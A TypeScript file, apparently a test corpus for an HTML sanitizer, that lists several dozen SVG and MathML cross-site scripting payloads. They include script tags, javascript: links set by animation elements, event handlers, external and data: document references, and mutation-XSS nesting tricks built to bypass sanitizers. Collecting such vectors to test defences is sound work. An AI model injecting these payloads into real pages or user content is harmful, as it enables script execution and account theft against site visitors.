/**
 * SVG and MathML: foreign content with its own parsing rules, script elements, `href` on everything, animation
 * elements that set attributes (`animate`/`set attributeName=href` turns a link into `javascript:`), `use` that
 * pulls in an external or `data:` document, `foreignObject` back into HTML, and MathML's `maction`, `mglyph` and
 * `annotation-xml`. Also whole SVG documents, as an avatar or attachment would carry them.
 */
import { base64, type Tokens, type Vector } from './vector.js';

const SVG_DOCUMENT = (tokens: Tokens) =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><script>${tokens.x}</script><image href="${tokens.u}"/></svg>`;

export const svgMathml: readonly Vector[] = [
  '<svg><script>§X§</script></svg>',
  '<svg><script href="data:,§X§"></script></svg>',
  '<svg><script xlink:href="§U§"></script></svg>',
  '<svg><script>&#x61;lert(/§ID§/.source)</script></svg>',
  '<svg><foreignObject><img src=x onerror=§X§></foreignObject></svg>',
  '<svg><foreignObject><iframe srcdoc="&lt;script&gt;§X§&lt;/script&gt;"></iframe></foreignObject></svg>',
  '<svg><foreignObject><body onload=§X§></body></foreignObject></svg>',
  (tokens: Tokens) =>
    `<svg><use href="data:image/svg+xml;base64,${base64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="1" onerror="${tokens.x}"/></svg>`)}#x"/></svg>`,
  '<svg><use href="§U§#x"/></svg>',
  '<svg><use xlink:href="§P§#x"></use></svg>',
  '<svg><a><animate attributeName=href values=javascript:§X§ /><text x=20 y=20>click me</text></a></svg>',
  '<svg><a><set attributeName=href to=javascript:§X§ /><text x=20 y=20>click me</text></a></svg>',
  '<svg><a xlink:href="javascript:§X§"><rect width=100 height=100 /></a></svg>',
  '<svg><a href="javascript:§X§"><circle r=400 /></a></svg>',
  '<svg><animate xlink:href=#xss attributeName=href dur=5s repeatCount=indefinite keytimes=0;0;1 values="https://x;javascript:§X§;0" /><a id=xss><text x=20 y=20>x</text></a></svg>',
  '<svg><animate onbegin=§X§ attributeName=x dur=1s></svg>',
  '<svg><set onbegin=§X§ attributeName=x to=1></svg>',
  '<svg><animatetransform onbegin=§X§ attributeName=transform></svg>',
  '<svg><discard onbegin=§X§></svg>',
  '<svg><set attributeName=onload to=§X§ /></svg>',
  '<svg><image href=§U§ /></svg>',
  '<svg><image xlink:href=x onerror=§X§ /></svg>',
  '<svg><feImage href=§U§ /></svg>',
  '<svg><filter><feImage xlink:href="§P§"/></filter></svg>',
  '<svg><style>@import "§U§";</style></svg>',
  '<svg><style><img src=x onerror=§X§></style></svg>',
  '<svg><title><img src=x onerror=§X§></title></svg>',
  '<svg><desc><![CDATA[</desc><img src=x onerror=§X§>]]></desc></svg>',
  '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">§X§</handler></svg>',
  '<svg><iframe src=x onload=§X§></iframe></svg>',
  '<svg><p><style><img src=x onerror=§X§></style></p></svg>',
  '<svg><textPath href="§U§#p">t</textPath></svg>',
  '<svg><pattern href="§U§#p"></pattern><rect fill="url(§U§#f)" width=9 height=9 /></svg>',
  '<svg><marker><script>§X§</script></marker></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg" onload="§X§"/>',
  SVG_DOCUMENT,
  (tokens: Tokens) => `<?xml version="1.0" standalone="no"?>${SVG_DOCUMENT(tokens)}`,
  (tokens: Tokens) => `<!DOCTYPE svg [<!ENTITY x "${tokens.u}">]><svg xmlns="http://www.w3.org/2000/svg"><image href="&x;"/></svg>`,
  '<math><maction actiontype=statusline xlink:href=javascript:§X§>click<mtext>x</mtext></maction></math>',
  '<math><maction actiontype=toggle><mtext>a</mtext><mtext><img src=x onerror=§X§></mtext></maction></math>',
  '<math><mi xlink:href="javascript:§X§">click</mi></math>',
  '<math href="javascript:§X§"><mi>x</mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=§X§></style></mglyph></table></mtext></math>',
  '<math><mtext><mglyph><svg><mtext><style><img src=x onerror=§X§></style></mtext></svg></mglyph></mtext></math>',
  '<math><mglyph src=§U§></mglyph></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=§X§></annotation-xml></math>',
  '<math><annotation-xml encoding="application/xhtml+xml"><style><img src=x onerror=§X§></style></annotation-xml></math>',
  '<math><semantics><annotation-xml encoding="text/html"><svg onload=§X§></annotation-xml></semantics></math>',
  '<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=§X§>">',
  '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=§X§ src=1>"></path></textarea></mtext></svg></mglyph></mi></math>',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=§X§>"></style></mtext></svg></mglyph></h1></mtext></math>',
  '<svg></p><style><a id="</style><img src=1 onerror=§X§>">',
  '<svg><a><rect width=99% height=99% /><animate attributeName=href to=javascript:§X§ /></a></svg>',
  '<svg width=12cm height=9cm><a><image href=https://evil.test/§ID§.png /><set attributeName=href to="javascript:§X§"/></a></svg>',
  '<svg><script type="text/ecmascript">§X§</script></svg>',
  '<svg><script>/*<![CDATA[*/§X§/*]]>*/</script></svg>',
];
